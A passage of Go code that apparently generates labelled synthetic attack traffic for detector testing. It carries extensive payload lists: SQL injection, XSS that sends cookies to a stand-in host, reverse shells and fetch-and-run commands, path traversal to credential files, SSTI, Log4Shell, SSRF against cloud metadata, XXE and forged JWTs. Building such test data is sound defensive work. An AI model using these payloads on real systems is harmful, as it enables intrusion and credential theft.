	"RAW:1%27%09OR%091%3D1--",
	"RAW:1%27%0AUNION%0ASELECT%0ANULL%2CNULL--",
	"1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3--",
	"1' OR 1=1 LIMIT 1 OFFSET 1--",
	"1' AND (SELECT 1 FROM pg_sleep(5))--",
	"' UNION SELECT sql,NULL FROM sqlite_master--",
	"1 and 1=(select top 1 name from sysobjects where xtype='U')",
	"ETH-BTC' AND (SELECT 6377 FROM (SELECT(SLEEP(5)))hLTl) AND 'Wvmz'='Wvmz",
	"1 AND 8812=(SELECT 8812 FROM PG_SLEEP(5))",
	"RAW:1+AND+1%3D2+UNION+ALL+SELECT+NULL%2CNULL%2Cversion%28%29--+",
	"x@mail.test' -- ",
	"O'Brien' AND 1=1 UNION SELECT username,password FROM users--",
	"1;SELECT pg_sleep(3),current_user--",
	"' HAVING 1=1--",
	"1' AND 1=(SELECT COUNT(*) FROM tabname); --",
	"1 WAITFOR DELAY '0:0:10'",
	"-1' OR 3*2*1=6 AND 000423=000423 --",
	"1' UNION SELECT @@version,NULL#",
	"10 AND 1=2 UNION SELECT table_name, column_name FROM information_schema.columns",
	"RAW:1%2F%2A%2A%2For%2F%2A%2A%2F1%3D1",
	"admin\" or \"1\"=\"1\"--",
)

var h7XSS = h7P(
	"<script>alert(document.domain)</script>",
	"\"><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	"<svg onload=confirm`1`>",
	"javascript:alert(document.cookie)",
	"JaVaScRiPt:alert(1)",
	"java&#x09;script:alert(1)",
	"javascript&colon;alert(1)",
	"<a href=\"java&#x0A;script:alert(1)\">click</a>",
	"<a href=\"javascript&colon;fetch('//x.oast.example/?c='+document.cookie)\">x</a>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"<iframe src=\"javascript:alert(1)\"></iframe>",
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<input autofocus onfocus=alert(1)>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"'><img src=x onerror=prompt(1)>",
	"<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
	"RAW:%3Cscript%3Ealert(1)%3C%2Fscript%3E",
	"RAW:%253Cscript%253Ealert(1)%253C%252Fscript%253E",
	"RAW:%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
	"<video><source onerror=\"alert(1)\">",
	"<marquee onstart=alert(1)>",
	"<object data=\"javascript:alert(1)\">",
	"<embed src=\"data:text/html,<script>alert(1)</script>\">",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<form action=javascript:alert(1)><input type=submit>",
	"<a href=\"vbscript:msgbox(1)\">x</a>",
	"<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
	"<script src=//x7k2.oast.example/x.js></script>",
	"<isindex type=image src=1 onerror=alert(1)>",
	"<x onmouseover=alert(1)>hover",
	"<svg><script>alert&#40;1&#41;</script>",
	"<img src=1 oNeRrOr=alert`1`>",
	"<body/onpageshow=alert(1)>",
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	"<audio src=x onerror=alert(1)>",
	"<base href=\"javascript:alert(1)//\">",
	"<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<img src=x:alert(alt) onerror=eval(src) alt=0>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a>",
	"<select autofocus onfocus=alert(1)>",
	"<textarea autofocus onfocus=alert(1)>",
	"<keygen autofocus onfocus=alert(1)>",
	"<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\"></p>",
	"</textarea><script>alert(1)</script>",
	"</title><script>alert(1)</script>",
	"\"><svg/onload=fetch(`//x.oast.example?c=${document.cookie}`)>",
	"<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
	"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
	"RAW:javascript%3Aalert%281%29",
	"<iframe srcdoc=\"<script>alert(1)</script>\">",
	"<table background=\"javascript:alert(1)\">",
	"<svg onload=alert&#x28;1&#x29;>",
	"'\"><script>document.location='https://x.oast.example/?c='+document.cookie</script>",
	"<img src=x onerror=\"this.src='//x.oast.example/?'+document.cookie\">",
	"<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
	"<video poster=javascript:alert(1)//></video>",
	"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
)

// h7Other are command injection, traversal, SSTI and Log4Shell values that
// can sit anywhere.
var h7Other = h7P(
	";id",
	"| whoami",
	"`uname -a`",
	"$(cat /etc/passwd)",
	"BTC-USDT && curl http://x7k2.oast.example/$(whoami)",
	";${IFS}cat${IFS}/etc/passwd",
	";$'\\x69\\x64'",
	";{cat,/etc/passwd}",
	";/???/c?t /???/p??s??",
	"x;w'h'o'am'i",
	"a|c\\at /etc/shadow",
	"RAW:%0aid",
	"||ping -c 10 127.0.0.1||",
	";nc -e /bin/sh 203.0.113.66 4444",
	"$(sleep 10)",
	"& ping -n 5 127.0.0.1 &",
	"; bash -i >& /dev/tcp/198.51.100.77/9001 0>&1",
	"|| wget http://x7k2.oast.example/s.sh -O /tmp/s.sh; sh /tmp/s.sh",
	"`id`",
	"RAW:%3Bcat%20%2Fetc%2Fpasswd",
	"../../../../etc/passwd",
	"RAW:..%2f..%2f..%2f..%2fetc%2fpasswd",
	"RAW:%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
	"RAW:..%252f..%252f..%252fetc%252fpasswd",
	"....//....//....//etc/passwd",
	"..\\..\\..\\..\\windows\\win.ini",
	"RAW:..%00/..%00/..%00/etc/passwd",
	"RAW:%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
	"../../../../proc/self/environ",
	"../../../../../var/www/.env",
	"/../../../../../../etc/shadow",
	"..%5c..%5c..%5cboot.ini",
	"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
	"{{''.__class__.__mro__[1].__subclasses__()}}",
	"{{cycler.__init__.__globals__.os.popen('id').read()}}",
	"{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
	"{{['id']|filter('system')}}",
	"{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
	"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
	"${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
	"#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
	"<%= system(\"id\") %>",
	"<%= `ls /` %>",
	"{system('id')}",
	"__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
	"@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
	"${T(java.lang.Runtime).getRuntime().exec('id')}",
	"{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}",
	"${jndi:ldap://x7k2.oast.example/a}",
	"${${lower:j}ndi:${lower:l}dap://x7k2.oast.example/b}",
	"${${::-j}${::-n}${::-d}${::-i}:rmi://x7k2.oast.example/c}",
	"${jndi:dns://x7k2.oast.example/d}",
	"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x7k2.oast.example/e}",
	"${jndi:${lower:l}${lower:d}a${lower:p}://x7k2.oast.example/f}",
	"${${upper:j}ndi:ldaps://x7k2.oast.example/g}",
	"RAW:%24%7Bjndi%3Aldap%3A%2F%2Fx7k2.oast.example%2Fh%7D",
	"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x7k2.oast.example/i}",
)

var h7SSRFURLs = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://[fd00:ec2::254]/latest/meta-data/",
	"http://metadata.google.internal/computeMetadata/v1/?recursive=true",
	"http://2852039166/latest/meta-data/",
	"http://0251.0376.0251.0376/",
	"http://0xa9fea9fe/latest/user-data",
	"http://0x7f000001:8080/",
	"http://127.1/admin",
	"http://127.0.0.1:8001/api/v1/namespaces/kube-system/secrets",
	"http://[::1]:6379/",
	"http://[::ffff:127.0.0.1]/server-status",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
	"http://10.0.0.12:8500/v1/agent/self",
	"http://192.168.1.1/",
	"http://172.16.3.4:9200/_cat/indices",
	"http://100.64.0.10/",
	"http://localhost:2375/containers/json",
	"http://app.10.0.0.1.nip.io/",
	"http://7f000001.nip.io/",
	"http://admin.lvh.me:8080/",
	"http://localtest.me/",
	"http://①②⑦.⓪.⓪.①/",
	"http://cdn.coinvault.test@127.0.0.1/",
	"http://user:pass@169.254.169.254/latest/meta-data/",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
	"dict://127.0.0.1:11211/stats",
	"ldap://10.0.0.5:389/dc=corp,dc=internal",
	"file:///srv/app/config/settings.yml",
	"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
	"http://100.100.100.200/latest/meta-data/",
	"http://0177.0.0.1/",
	"http://2130706433/",
	"http://127.0.0.1.nip.io/",
	"http://[0:0:0:0:0:ffff:127.0.0.1]/",
	"http://169.254.169.254.nip.io/latest/meta-data/",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://169.254.170.2/v2/credentials/",
	"http://127.0.0.1:9000/minio/admin/v3/info",
	"https://10.20.30.40/internal/export",
	"http://[::1]/",
	"http://localhost/server-status",
	"http://0x7f.0x0.0x0.0x1/",
	"http://127.0.0.1:10250/pods",
	"http://192.168.0.1:8080/manager/html",
	"gopher://10.0.0.9:25/_HELO%20x%0D%0A",
	"http://10.0.0.1.nip.io:8080/",
	"http://spoofed.burpcollaborator.example@192.168.10.5/",
	"http://169.254.169.254/computeMetadata/v1/",
	"http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
	"http://0x0a.0x00.0x00.0x01/",
}

// h7SQLErrors are database errors an injected quote provokes.
var h7SQLErrors = []string{
	`{"error":"internal","detail":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '' AND 3841=3841' at line 1"}`,
	`{"error":"ERROR 1064 (42000): You have an error in your SQL syntax near 'UNION ALL SELECT NULL' at line 1"}`,
	`{"message":"pq: syntax error at or near \"UNION\"","code":"42601"}`,
	`{"error":"ERROR: unterminated quoted string at or near \"' OR 1=1\"\nLINE 1: SELECT * FROM articles WHERE section = '' OR 1=1\n                                                  ^"}`,
	`{"error":"SQLITE_ERROR: near \"UNION\": syntax error"}`,
	`{"error":"Unclosed quotation mark after the character string ''.\r\nIncorrect syntax near ''."}`,
	`{"error":"ORA-01756: quoted string not properly terminated"}`,
	`{"error":"ORA-00933: SQL command not properly ended"}`,
	`{"error":"SequelizeDatabaseError: invalid input syntax for type integer: \"1 AND 5621=5621\""}`,
	`{"error":"QueryFailedError: column \"password_hash\" does not exist"}`,
	`{"code":"ER_PARSE_ERROR","errno":1064,"sqlState":"42000","sqlMessage":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"}`,
	`{"error":"DB2 SQL Error: SQLCODE=-104, SQLSTATE=42601, SQLERRMC=UNION;ELECT * FROM ORDERS;<space>, DRIVER=4.26.14"}`,
	`{"error":"Msg 102, Level 15, State 1, Line 1\nIncorrect syntax near 'WAITFOR'."}`,
	`{"error":"sql: Scan error on column index 1, name \"price\": converting driver.Value type string (\"5.5.5-10.11.6-MariaDB\") to a float64: invalid syntax"}`,
	`{"error":"SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax"}`,
	`{"error":"PG::SyntaxError: ERROR:  syntax error at or near \"ORDER\""}`,
	`{"error":"ERROR: invalid input syntax for type bigint: \"1'\" (SQLSTATE 22P02)"}`,
	`{"error":"SQLite3::SQLException: unrecognized token: \"'\""}`,
	`{"error":"com.microsoft.sqlserver.jdbc.SQLServerException: Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2019' to data type int."}`,
	`{"error":"XPATH syntax error: '~cms@10.0.3.17'"}`,
}

func h7Attacks(g *h7Gen, w *h7World) []h7Item {
	g.items = nil
	// SQL injection, everywhere; some provoke database errors (also verbose).
	for i, p := range h7SQLi {
		place := h7Places[i%len(h7Places)]
		if i%4 == 1 {
			g.inject(w, place, p, 500, h7SQLErrors[(i/4)%len(h7SQLErrors)], h7DetSQLi, h7DetVerb)
		} else {
			g.inject(w, place, p, 0, "", h7DetSQLi)
		}
	}
	// Cross-site scripting, everywhere.
	for i, p := range h7XSS {
		place := h7Places[(i+5)%len(h7Places)]
		if place == "xff" {
			place = "json"
		}
		g.inject(w, place, p, 0, "", h7DetXSS)
	}
	// Stored XSS in uploads: SVG and HTML files.
	svgs := []string{
		`<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><circle cx="50" cy="50" r="40"/><script type="text/javascript">alert(document.domain)</script></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//x7k2.oast.example/'+document.cookie)"><rect width="10" height="10"/></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="10" y="20">Open chart</text></a></svg>`,
		`<html><body><h1>Press release</h1><img src=x onerror="alert(1)"></body></html>`,
	}
	for i, s := range svgs {
		bd := "----WebKitFormBoundary" + g.alnum(16)
		name, ct := "chart.svg", "image/svg+xml"
		if strings.HasPrefix(s, "<html") {
			name, ct = "press-release.html", "text/html"
		}
		body := "--" + bd + "\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nChart\r\n--" + bd + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\nContent-Type: " + ct + "\r\n\r\n" + s + "\r\n--" + bd + "--\r\n"
		a := g.atk(w, h7CMS, true)
		g.add(a, "POST", "https://"+h7CMS+"/v1/media", h7Hdr("Content-Type", "multipart/form-data; boundary="+bd), body, 201, nil, fmt.Sprintf(`{"id":%d,"url":"https://cdn.harbortimes.test/media/2026/11/%s"}`, 95000+i, name), h7DetXSS)
	}
	// Command injection, traversal, SSTI, Log4Shell.
	for i, p := range h7Other {
		place := h7Places[(i+3)%len(h7Places)]
		if strings.Contains(p.v, "jndi") && i%3 == 0 {
			place = g.pick([]string{"ua", "xhdr", "referer", "xff"})
		}
		if strings.Contains(p.v, "..") && i%2 == 0 {
			place = "filep"
		}
		if place == "filep" {
			a := g.atk(w, h7Data, false)
			H := "https://" + h7Data
			u := H + "/api/v2/datasets/" + g.pick(h7Datasets) + "/attachments/download?file=" + p.q()
			if i%4 == 0 {
				u = "https://" + h7CMS + "/v1/media/render?template=" + p.q()
			}
			g.add(a, "GET", u, nil, "", []int{400, 404, 403}[i%3], nil, `{"error":"file not found"}`, h7DetOther)
			continue
		}
		g.inject(w, place, p, 0, "", h7DetOther)
	}
	// NoSQL operators where they run code or target credentials.
	nosql := []struct{ method, host, path, ct, body string }{
		{"POST", h7Coin, "/api/v3/auth/login", "application/json", `{"email":{"$ne":null},"password":{"$ne":null}}`},
		{"POST", h7CMS, "/v1/auth/login", "application/x-www-form-urlencoded", "username[$ne]=x&password[$ne]=x"},
		{"GET", h7Data, "/api/v2/datasets?$where=sleep(5000)||true", "", ""},
		{"GET", h7CMS, "/v1/users?$where=this.password.length%3E0", "", ""},
		{"POST", h7Coin, "/api/v3/auth/login", "application/json", `{"email":"admin@coinvault.test","password":{"$regex":"^a"}}`},
		{"POST", h7CMS, "/v1/auth/login", "application/json", `{"email":{"$gt":""},"password":{"$gt":""}}`},
		{"POST", h7Data, "/api/v2/query", "application/json", `{"dataset":"7ytq-m2xk","filters":{"$where":"function(){ return sleep(3000) || true; }"}}`},
		{"POST", h7Coin, "/api/v3/auth/password-reset", "application/json", `{"email":{"$regex":".*@coinvault\\.test"}}`},
		{"POST", h7CMS, "/v1/auth/login", "application/x-www-form-urlencoded", "email%5B%24ne%5D=1&password%5B%24ne%5D=1"},
		{"POST", h7Data, "/api/v2/query", "application/json", `{"dataset":"7ytq-m2xk","filters":{"category":{"$function":{"body":"function(){ return true }","args":[],"lang":"js"}}}}`},
		{"POST", h7Coin, "/api/v3/auth/login", "application/json", `{"username":{"\u0024ne":"x"},"password":{"\u0024ne":"x"}}`},
		{"GET", h7CMS, "/v1/auth/magic-link?token[$ne]=0", "", ""},
		{"POST", h7Coin, "/api/v3/auth/login", "application/json", `{"email":"ops@coinvault.test","password":{"$nin":[""]}}`},
		{"GET", h7Data, "/api/v2/admin/users?filter[password][$regex]=^%24", "", ""},
	}
	for _, n := range nosql {
		a := g.atk(w, n.host, false)
		hdr := map[string][]string{}
		if n.ct != "" {
			hdr["Content-Type"] = []string{n.ct}
		}
		g.add(a, n.method, "https://"+n.host+n.path, hdr, n.body, []int{401, 200, 400}[g.r.Intn(3)], nil, `{"error":"invalid credentials"}`, h7DetOther)
	}
	// XXE in XML bodies and uploads.
	xxe := []struct{ host, path, ct, body string }{
		{h7CMS, "/v1/import/wxr", "application/xml", `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>`},
		{h7Coin, "/api/v3/reports/tax", "text/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://x7k2.oast.example/evil.dtd"> %ext;]><TaxReportRequest><Year>2025</Year></TaxReportRequest>`},
		{h7Data, "/api/v2/import/kml", "application/vnd.google-earth.kml+xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><kml><Placemark><name>&lol4;</name></Placemark></kml>`},
		{h7CMS, "/v1/import/wxr", "application/xml", `<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><item><title><xi:include parse="text" href="/etc/passwd"/></title></item></channel></rss>`},
		{h7Data, "/api/v2/import/gpx", "application/gpx+xml", `<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><gpx><trk><name>&xxe;</name></trk></gpx>`},
		{h7Coin, "/api/v3/reports/tax", "application/xml", `<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://x7k2.oast.example/x.dtd"><TaxReportRequest><Year>2025</Year></TaxReportRequest>`},
		{h7CMS, "/v1/import/nitf", "application/xml", `<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php"><!ENTITY % dtd SYSTEM "http://x7k2.oast.example/combine.dtd">%dtd;]><nitf><body>x</body></nitf>`},
		{h7Data, "/api/v2/import/kml", "application/xml", `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY xxe SYSTEM "expect://id">]><kml><Placemark><name>&xxe;</name></Placemark></kml>`},
	}
	for _, x := range xxe {
		a := g.atk(w, x.host, true)
		g.add(a, "POST", "https://"+x.host+x.path, h7Hdr("Content-Type", x.ct), x.body, []int{400, 202, 500}[g.r.Intn(3)], nil, `{"status":"rejected"}`, h7DetOther)
	}
	// XXE inside uploaded SVG and DOCX-like XML.
	for i, s := range []string{
		`<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="16">&xxe;</text></svg>`,
		`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://x7k2.oast.example/svg.dtd">%remote;]><svg xmlns="http://www.w3.org/2000/svg"/>`,
		`<?xml version="1.0"?><!DOCTYPE cp [<!ENTITY x SYSTEM "file:///proc/self/environ">]><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">&x;</dc:title></cp:coreProperties>`,
	} {
		bd := "----WebKitFormBoundary" + g.alnum(16)
		name := []string{"logo.svg", "icon.svg", "core.xml"}[i]
		body := "--" + bd + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\nContent-Type: " + []string{"image/svg+xml", "image/svg+xml", "application/xml"}[i] + "\r\n\r\n" + s + "\r\n--" + bd + "--\r\n"
		a := g.atk(w, h7CMS, true)
		g.add(a, "POST", "https://"+h7CMS+"/v1/media", h7Hdr("Content-Type", "multipart/form-data; boundary="+bd), body, 201, nil, `{"id":96001}`, h7DetOther)
	}
	g.ssrfAttacks(w)
	g.jwtAttacks(w)
	g.verboseAttacks(w)
	g.sensitiveAttacks(w)
	g.limitAttacks(w)
	out := g.items
	g.items = nil
	// Shuffle deterministically so that the techniques are spread over time.
	g.r.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out
}

func (g *h7Gen) ssrfAttacks(w *h7World) {
	type target struct {
		host, method, path string
		build              func(u string) (string, string) // returns query suffix or body
	}
	jsonBody := func(key string) func(string) (string, string) {
		return func(u string) (string, string) {
			if key == "url" {
				return "", `{"url":` + h7JSON(u) + `,"events":["order.filled","withdrawal.completed"]}`
			}
			return "", `{"` + key + `":` + h7JSON(u) + `}`
		}
	}
	querySuffix := func(key string) func(string) (string, string) {
		return func(u string) (string, string) { return "?" + key + "=" + h7Q(u), "" }
	}
	targets := []target{
		{h7Coin, "POST", "/api/v3/webhooks", jsonBody("url")},
		{h7CMS, "GET", "/v1/oembed", querySuffix("url")},
		{h7CMS, "POST", "/v1/media/import", jsonBody("source_url")},
		{h7CMS, "GET", "/v1/media/fetch", querySuffix("image_url")},
		{h7Data, "PUT", "/api/v2/admin/harvest-sources/17", jsonBody("source_url")},
		{h7Data, "GET", "/api/v2/proxy/tiles", querySuffix("src")},
		{h7Coin, "PUT", "/api/v3/account/avatar", jsonBody("avatar_url")},
		{h7Data, "POST", "/api/v2/import/remote", jsonBody("feed_url")},
		{h7CMS, "POST", "/v1/articles/19442/link-preview", jsonBody("link")},
		{h7Coin, "POST", "/api/v3/notifications/callback", func(u string) (string, string) {
			return "", `{"channel":"http","config":{"delivery":{"callback_url":` + h7UEsc(u) + `}}}`
		}},
	}
	cloudLeak := `{"fetched":true,"content":"{\"Code\":\"Success\",\"Type\":\"AWS-HMAC\",\"AccessKeyId\":\"ASIA` + g.upnum(16) + `\",\"SecretAccessKey\":\"` + g.alnum(40) + `\",\"Token\":\"IQoJb3JpZ2luX2VjE` + g.alnum(120) + `\",\"Expiration\":\"2026-11-24T14:12:31Z\"}"}`
	for i, u := range h7SSRFURLs {
		t := targets[i%len(targets)]
		q, body := t.build(u)
		hdr := map[string][]string{}
		if body != "" {
			hdr["Content-Type"] = []string{"application/json"}
		}
		a := g.atk(w, t.host, true)
		status, resp := []int{400, 200, 502, 201}[i%4], `{"error":"fetch failed"}`
		labels := []string{h7DetSSRF}
		switch {
		case i%4 == 1:
			resp = `{"status":"fetched","bytes":` + fmt.Sprint(200+g.r.Intn(4000)) + `}`
		case i%4 == 3:
			resp = `{"id":"wh_` + g.alnum(12) + `","status":"active"}`
		}
		if i == 0 || i == 36 {
			status, resp = 200, cloudLeak
			labels = append(labels, h7DetSens)
		}
		g.add(a, t.method, "https://"+t.host+t.path+q, hdr, body, status, nil, resp, labels...)
	}
	// Host-valued parameters, and encoded URLs in forms and paths.
	hostCases := []struct{ method, url, ct, body string }{
		{"GET", "https://" + h7Data + "/api/v2/admin/health/check?host=169.254.169.254&port=80", "", ""},
		{"GET", "https://" + h7Data + "/api/v2/admin/health/check?host=10.0.0.5&port=6379", "", ""},
		{"POST", "https://" + h7Coin + "/api/v3/webhooks/test", "application/x-www-form-urlencoded", "url=" + h7Q("http://127.0.0.1:8500/v1/kv/?recurse") + "&method=GET"},
		{"POST", "https://" + h7CMS + "/v1/media/import", "application/x-www-form-urlencoded", "source_url=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"},
		{"GET", "https://" + h7CMS + "/v1/oembed?url=http%3A%2F%2F%5B%3A%3Affff%3A169.254.169.254%5D%2F&maxwidth=640", "", ""},
		{"POST", "https://" + h7Data + "/api/v2/admin/datasources/test", "application/json", `{"type":"postgres","host":"127.0.0.1","port":5432}`},
		{"GET", "https://" + h7CMS + "/v1/media/fetch?image_url=https://cdn.harbortimes.test/a.jpg&image_url=http://192.168.0.10/", "", ""},
		{"POST", "https://" + h7Coin + "/api/v3/webhooks", "application/json", `{"url":"\u0068ttp://\u0031\u0036\u0039.254.169.254/latest/meta-data/"}`},
	}
	for i, c := range hostCases {
		hdr := map[string][]string{}
		if c.ct != "" {
			hdr["Content-Type"] = []string{c.ct}
		}
		host := strings.Split(strings.TrimPrefix(c.url, "https://"), "/")[0]
		g.add(g.atk(w, host, i%2 == 0), c.method, c.url, hdr, c.body, []int{200, 400, 502}[i%3], nil, `{"result":"unreachable"}`, h7DetSSRF)
	}
	// Host-override headers.
	hh := []struct{ name, val string }{
		{"X-Forwarded-Host", "169.254.169.254"},
		{"X-Original-Host", "10.0.0.5"},
		{"X-Host", "127.0.0.1:8080"},
		{"X-Forwarded-Server", "192.168.1.20"},
		{"X-HTTP-Host-Override", "metadata.google.internal"},
		{"X-Forwarded-Host", "localhost"},
		{"X-Host", "169.254.169.254"},
		{"X-Original-Host", "172.17.0.1:2375"},
	}
	for i, h := range hh {
		host := []string{h7Coin, h7CMS, h7Data}[i%3]
		u := map[string]string{h7Coin: "/api/v3/account/password-reset", h7CMS: "/v1/auth/forgot", h7Data: "/api/v2/datasets"}[host]
		method, body, ct := "POST", `{"email":"victim@mail.example"}`, "application/json"
		if host == h7Data {
			method, body, ct = "GET", "", ""
		}
		hdr := h7Hdr(h.name, h.val)
		if ct != "" {
			hdr["Content-Type"] = []string{ct}
		}
		g.add(g.atk(w, host, false), method, "https://"+host+u, hdr, body, 200, nil, `{"status":"ok"}`, h7DetSSRF)
	}
}

func (g *h7Gen) jwtAttacks(w *h7World) {
	type ep struct{ host, method, path, body, role string }
	eps := []ep{
		{h7Coin, "GET", "/api/v3/wallets", "", "trader"},
		{h7Coin, "GET", "/api/v3/api-keys", "", "trader"},
		{h7Coin, "POST", "/api/v3/withdrawals", `{"asset":"BTC","network":"BTC","address":"bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh","amount":"2.5"}`, "trader"},
		{h7CMS, "PATCH", "/v1/articles/19871/workflow", `{"state":"published"}`, "editor"},
		{h7CMS, "GET", "/v1/articles?status=draft&per_page=50", "", "editor"},
		{h7Data, "GET", "/api/v2/admin/harvest-jobs", "", "admin"},
		{h7Data, "POST", "/api/v2/admin/datasets/7ytq-m2xk/publish", `{"version":"x"}`, "admin"},
		{h7Coin, "GET", "/api/v3/account/activity", "", "trader"},
	}
	seg := func(v any) string { return h7B64URL([]byte(h7JSON(v))) }
	claims := func(e ep, sub string) map[string]any {
		c := h7ValidClaims(e.host, sub, e.role)
		return c
	}
	sign := func(hs, ps string, key string) string {
		m := hmac.New(sha256.New, []byte(key))
		m.Write([]byte(hs + "." + ps))
		return h7B64URL(m.Sum(nil))
	}
	var toks []struct {
		tok    string
		status int
	}
	addTok := func(t string, st int) {
		toks = append(toks, struct {
			tok    string
			status int
		}{t, st})
	}
	subs := []string{"usr_9101", "usr_0001", "admin", "usr_9104", "au-1002", "adm-0001"}
	n := 0
	next := func() (ep, map[string]any) {
		e := eps[n%len(eps)]
		c := claims(e, subs[n%len(subs)])
		n++
		return e, c
	}
	var order []ep
	// alg none, in the spellings tools try.
	for i, alg := range []string{"none", "None", "NONE", "nOnE", "none", "none", "None", "none"} {
		e, c := next()
		order = append(order, e)
		h := map[string]any{"alg": alg, "typ": "JWT"}
		t := seg(h) + "." + seg(c) + "."
		if i == 5 {
			t = seg(h) + "." + seg(c) + "." + h7B64URL([]byte("x"))[:0]
		}
		if i == 6 {
			t = seg(map[string]any{"typ": "JWT", "alg": alg}) + "." + seg(c)
		}
		addTok(t, []int{200, 200, 401, 200}[i%4])
	}
	// Signature stripped: empty segment or dropped.
	for i := 0; i < 8; i++ {
		e, c := next()
		order = append(order, e)
		t := seg(map[string]any{"alg": "HS256", "typ": "JWT"}) + "." + seg(c)
		if i%2 == 0 {
			t += "."
		}
		addTok(t, []int{200, 200, 401}[i%3])
	}
	// Expired, answered 2xx.
	for i := 0; i < 10; i++ {
		e, c := next()
		order = append(order, e)
		c["iat"] = h7Base.Add(-time.Duration(30+i*24) * 24 * time.Hour).Unix()
		c["nbf"] = c["iat"]
		c["exp"] = h7Base.Add(-time.Duration(2+i*11) * 24 * time.Hour).Unix()
		addTok(h7JWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-09-key_0"}, c), 200)
	}
	// Not yet valid, answered 2xx.
	for i := 0; i < 6; i++ {
		e, c := next()
		order = append(order, e)
		c["nbf"] = h7Base.Add(time.Duration(20+i*5) * 24 * time.Hour).Unix()
		c["iat"] = c["nbf"]
